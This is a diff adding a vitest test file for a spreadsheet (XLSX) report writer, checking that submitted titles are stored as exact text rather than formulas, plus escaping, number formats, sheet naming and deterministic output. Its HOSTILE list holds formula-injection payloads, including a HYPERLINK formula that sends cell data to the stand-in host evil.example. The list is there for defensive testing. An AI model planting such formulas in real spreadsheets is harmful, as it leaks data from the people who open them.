@@ -1,0 +1,148 @@
+/**
+ * The XLSX writer, read back with exceljs and as raw XML: text stays the exact text (never a
+ * formula), numbers stay numbers with their display format, and the header is bold, frozen and
+ * filtered.
+ */
+import ExcelJS from 'exceljs';
+import { describe, expect, it } from 'vitest';
+import { encodeXlsxText, sheetName, writeXlsx, type SheetSpec } from '../../src/report/xlsx.js';
+import { unzip, zipEntries } from './unzip.js';
+
+/** Strings a hostile or careless submission could carry; each must come back exactly. */
+export const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
+  '=1+1',
+  '+62 812-3456-7890',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1', // full-width equals sign
+  '＋62 21 1234', // full-width plus
+  '＠cmd',
+  "'apostrof di depan",
+  'Judul dengan _x0041_ di dalamnya',
+  'kontrol\u0001dan\u007Fdel',
+  'baris satu\nbaris dua',
+  'baris satu\r\nbaris dua',
+  '  spasi di tepi  ',
+  'Inovasi 🚀 “Sipandu” <b>&amp;</b>',
+  '#N/A',
+  '0812345678',
+  '1e5',
+];
+
+async function readBack(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+  return workbook;
+}
+
+const spec: SheetSpec = {
+  name: 'Top 99',
+  columns: [
+    { header: 'Rank', kind: 'integer' },
+    { header: 'Title', kind: 'text' },
+    { header: 'Total', kind: 'number' },
+    { header: 'Note', kind: 'text', width: 17 },
+  ],
+  rows: HOSTILE.map((title, i) => [i + 1, title, 90 - i / 3, i % 2 === 0 ? null : 42]),
+};
+
+describe('writeXlsx', async () => {
+  const bytes = await writeXlsx([spec, { name: 'Kosong', columns: [{ header: 'id', kind: 'text' }], rows: [], freezeHeader: false, filter: false }]);
+  const workbook = await readBack(bytes);
+  const sheet = workbook.getWorksheet('Top 99')!;
+
+  it('keeps every hostile title as the exact text, stored as a string', () => {
+    HOSTILE.forEach((title, i) => {
+      const cell = sheet.getCell(i + 2, 2);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(title);
+      expect(cell.formula).toBeUndefined();
+    });
+  });
+
+  it('writes no formula anywhere in the package', () => {
+    for (const [name, xml] of unzip(bytes)) {
+      if (!name.startsWith('xl/worksheets/')) continue;
+      expect(xml).not.toMatch(/<f[\s>/]/);
+      expect(xml).not.toContain('t="str"'); // a formula's cached string result
+    }
+  });
+
+  it('stores numbers as numbers with 0.00 or 0 display', () => {
+    HOSTILE.forEach((_, i) => {
+      const rank = sheet.getCell(i + 2, 1);
+      const total = sheet.getCell(i + 2, 3);
+      expect(rank.type).toBe(ExcelJS.ValueType.Number);
+      expect(rank.value).toBe(i + 1);
+      expect(rank.numFmt).toBe('0');
+      expect(total.type).toBe(ExcelJS.ValueType.Number);
+      expect(total.value).toBe(90 - i / 3);
+      expect(total.numFmt).toBe('0.00');
+    });
+  });
+
+  it('writes a number in a text column as its text, and null as an empty cell', () => {
+    expect(sheet.getCell(3, 4).value).toBe('42');
+    expect(sheet.getCell(3, 4).type).toBe(ExcelJS.ValueType.String);
+    expect(sheet.getCell(2, 4).value).toBeNull();
+  });
+
+  it('has a bold, frozen, filtered header and the given or fitted widths', () => {
+    expect(sheet.getRow(1).values).toEqual([undefined, 'Rank', 'Title', 'Total', 'Note']);
+    expect(sheet.getCell(1, 2).font?.bold).toBe(true);
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+    expect(sheet.autoFilter).toBe(`A1:D${HOSTILE.length + 1}`);
+    expect(sheet.getColumn(4).width).toBe(17);
+    // the longest title: the HYPERLINK one, 56 characters (+1 padding)
+    expect(sheet.getColumn(2).width).toBe(HOSTILE[0]!.length + 1);
+    expect(sheet.getColumn(1).width).toBe('Rank'.length + 3); // room for bold text and the filter button
+  });
+
+  it('keeps sheets in order and honours freezeHeader/filter false', () => {
+    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Top 99', 'Kosong']);
+    const empty = workbook.getWorksheet('Kosong')!;
+    expect((empty.views ?? []).some((v) => v.state === 'frozen')).toBe(false);
+    expect(empty.autoFilter).toBeUndefined();
+  });
+
+  it('gives the same bytes for the same sheets, with fixed ZIP entry times', async () => {
+    const date = new Date(Date.UTC(2026, 10, 22, 10, 30, 0));
+    const a = await writeXlsx([spec], { date });
+    const b = await writeXlsx([spec], { date });
+    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
+    const dosTime = (10 << 11) | (30 << 5);
+    const dosDate = ((2026 - 1980) << 9) | (11 << 5) | 22;
+    for (const entry of zipEntries(a)) {
+      expect(entry.central).toEqual([dosTime, dosDate]);
+      expect(entry.local).toEqual([dosTime, dosDate]);
+    }
+    expect((await readBack(a)).created?.toISOString()).toBe(date.toISOString());
+  });
+});
+
+describe('encodeXlsxText', () => {
+  it('escapes control characters and escape look-alikes the way Excel reads them', () => {
+    expect(encodeXlsxText('a\u0001b')).toBe('a_x0001_b');
+    expect(encodeXlsxText('a\rb')).toBe('a_x000D_b');
+    expect(encodeXlsxText('_x0041_')).toBe('_x005F_x0041_');
+    expect(encodeXlsxText('_x00e9_')).toBe('_x005F_x00e9_');
+    expect(encodeXlsxText('tab\tand\nnewline stay')).toBe('tab\tand\nnewline stay');
+    expect(encodeXlsxText('_xyz_ and x0041_')).toBe('_xyz_ and x0041_');
+  });
+});
+
+describe('sheetName', () => {
+  it('follows Excel rules: forbidden characters, 31 characters, unique ignoring case', () => {
+    const taken = new Set<string>();
+    expect(sheetName('Top 99 [2026]: final?', taken)).toBe('Top 99 -2026-- final-');
+    expect(sheetName('top 99 [2026]: FINAL?', taken)).toBe('top 99 -2026-- FINAL- (2)');
+    const long = 'Pelayanan publik inklusif dan berkelanjutan';
+    expect(sheetName(long, taken)).toBe(long.slice(0, 31));
+    expect(sheetName(long, taken)).toBe(`${long.slice(0, 27)} (2)`);
+    expect(sheetName("'", taken)).toBe('Sheet5');
+    expect(sheetName('History', taken)).toBe('Sheet6');
+  });
+});
